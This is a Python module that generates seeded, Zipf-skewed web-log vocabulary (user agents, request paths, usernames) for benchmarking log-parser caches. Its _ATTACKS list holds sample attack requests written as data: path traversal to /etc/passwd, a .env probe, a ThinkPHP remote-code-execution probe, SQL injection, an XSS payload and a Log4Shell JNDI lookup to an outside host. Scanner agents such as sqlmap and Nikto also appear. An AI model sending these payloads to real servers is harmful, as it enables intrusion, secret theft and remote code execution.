"""Generated web-log vocabulary with the cardinality of a real portal: thousands of distinct user
agents and paths, drawn with a skewed (Zipf-like) popularity, as real traffic is.

A handful of agents and paths lets the parsers' caches answer almost every line; these pools are
larger than the caches (4,096 user agents, 8,192 decoded URLs), so the benchmarks measure misses
as a busy server causes them. Everything is seeded: the same arguments give the same lines.
"""

from __future__ import annotations

import random
from dataclasses import dataclass

_WINDOWS = ("Windows NT 10.0; Win64; x64", "Windows NT 10.0; WOW64", "Windows NT 6.1; Win64; x64",
            "Windows NT 6.3; Win64; x64")
_MACS = tuple(f"Macintosh; Intel Mac OS X 10_{minor}_{patch}" for minor in range(13, 16) for patch in range(0, 8))
_ANDROIDS = tuple(f"Linux; Android {v}; {model}" for v in (10, 11, 12, 13, 14)
                  for model in ("SM-A515F", "SM-G991B", "Pixel 7", "Redmi Note 11", "CPH2211", "V2111", "RMX3511",
                                "SM-A325F", "M2101K6G", "2201117TG"))
_IOS = tuple(f"{major}_{minor}" for major in (15, 16, 17, 18) for minor in range(0, 7))
_WORDS = ("tin-tuc", "thong-bao", "van-ban", "thu-tuc", "dich-vu-cong", "lien-he", "gioi-thieu", "hoi-dap",
          "news", "events", "documents", "procedures", "services", "contact", "about", "search", "tender",
          "recruitment", "statistics", "budget", "planning", "health", "education", "transport", "tax")
_STATIC = ("css", "js", "img", "fonts", "uploads")
_ATTACKS = ("/..%2f..%2fetc/passwd", "/wp-login.php", "/.env", "/cgi-bin/luci/;stok=/locale",
            "/index.php?s=/Index/\\think\\app/invokefunction", "/?id=1%27%20OR%20%271%27=%271",
            "/search?q=%3Cscript%3Ealert(1)%3C/script%3E", "/${jndi:ldap://198.51.100.7/a}")


def user_agents(count: int, rng: random.Random) -> list[str]:
    """``count`` distinct user agents: browsers of many versions and platforms, bots, tools, scanners."""
    out: set[str] = set()
    while len(out) < count:
        kind = rng.random()
        chrome = f"{rng.randint(100, 131)}.0.{rng.randint(4500, 6800)}.{rng.randint(0, 220)}"
        if kind < 0.35:
            out.add(f"Mozilla/5.0 ({rng.choice(_WINDOWS + _MACS)}) AppleWebKit/537.36 (KHTML, like Gecko) "
                    f"Chrome/{chrome} Safari/537.36" + (f" Edg/{chrome}" if rng.random() < 0.3 else ""))
        elif kind < 0.6:
            out.add(f"Mozilla/5.0 ({rng.choice(_ANDROIDS)}) AppleWebKit/537.36 (KHTML, like Gecko) "
                    f"Chrome/{chrome} Mobile Safari/537.36")
        elif kind < 0.75:
            ios = rng.choice(_IOS)
            out.add(f"Mozilla/5.0 (iPhone; CPU iPhone OS {ios} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                    f"Version/{ios.split('_')[0]}.{rng.randint(0, 6)} Mobile/15E148 Safari/604.1")
        elif kind < 0.87:
            v = rng.randint(100, 133)
            out.add(f"Mozilla/5.0 ({rng.choice((*_WINDOWS, 'X11; Linux x86_64', 'X11; Ubuntu; Linux x86_64'))}; "
                    f"rv:{v}.0) Gecko/20100101 Firefox/{v}.0")
        elif kind < 0.93:
            out.add(rng.choice(("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
                                "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
                                "Mozilla/5.0 (compatible; coccocbot-web/1.0; +http://help.coccoc.com/searchengine)"))
                    + f" r{rng.randint(1, 400)}")
        else:
            out.add(rng.choice(("curl/{}.{}.{}", "python-requests/2.{}.{}", "Go-http-client/1.{}",
                                "sqlmap/1.{}.{}#stable (https://sqlmap.org)", "Wget/1.{}.{}",
                                "Mozilla/5.00 (Nikto/2.{}.{}) (Evasions:None) (Test:00{})"))
                    .format(rng.randint(1, 32), rng.randint(0, 12), rng.randint(0, 9000)))
    return sorted(out)


def paths(count: int, rng: random.Random) -> list[str]:
    """``count`` distinct request targets: pages, API calls with queries, assets, a few attacks."""
    out: set[str] = set(_ATTACKS)
    while len(out) < count:
        kind = rng.random()
        a, b = rng.choice(_WORDS), rng.choice(_WORDS)
        if kind < 0.4:
            out.add(f"/{a}/{b}-{rng.randint(1, 99999)}.html")
        elif kind < 0.65:
            out.add(f"/api/v1/{a}?page={rng.randint(1, 200)}&size={rng.choice((10, 20, 50))}&sort={b}")
        elif kind < 0.9:
            out.add(f"/{rng.choice(_STATIC)}/{a}.{rng.getrandbits(32):08x}.{rng.choice(('js', 'css', 'png', 'woff2'))}")
        else:
            out.add(f"/search?q={a}+{b}+{rng.randint(1, 999)}&lang={rng.choice(('vi', 'en'))}")
    return sorted(out)


@dataclass(frozen=True)
class Vocabulary:
    agents: list[str]
    paths: list[str]
    users: list[str]
    agent_order: list[int]  # per line: which agent (skewed popularity)
    path_order: list[int]
    user_order: list[int]

    @classmethod
    def make(cls, lines: int, agents: int = 5000, paths_: int = 20000, users: int = 2000,
             seed: int = 7) -> Vocabulary:
        rng = random.Random(seed)
        pool_agents, pool_paths = user_agents(agents, rng), paths(paths_, rng)
        pool_users = sorted({f"{rng.choice(('nv', 'cb', 'admin', 'user', 'test', 'svc'))}{rng.randint(1, 99999)}"
                             for _ in range(users)})
        return cls(pool_agents, pool_paths, pool_users, _skewed(rng, len(pool_agents), lines),
                   _skewed(rng, len(pool_paths), lines), _skewed(rng, len(pool_users), lines))

    def agent(self, i: int) -> str:
        return self.agents[self.agent_order[i % len(self.agent_order)]]

    def path(self, i: int) -> str:
        return self.paths[self.path_order[i % len(self.path_order)]]

    def user(self, i: int) -> str:
        return self.users[self.user_order[i % len(self.user_order)]]


def _skewed(rng: random.Random, size: int, n: int, exponent: float = 1.0) -> list[int]:
    """``n`` draws from ``range(size)`` with Zipf-like weights 1/(rank ** exponent), ranks shuffled."""
    weights = [1 / (rank ** exponent) for rank in range(1, size + 1)]
    ranks = list(range(size))
    rng.shuffle(ranks)
    return rng.choices(ranks, weights=weights, k=n)
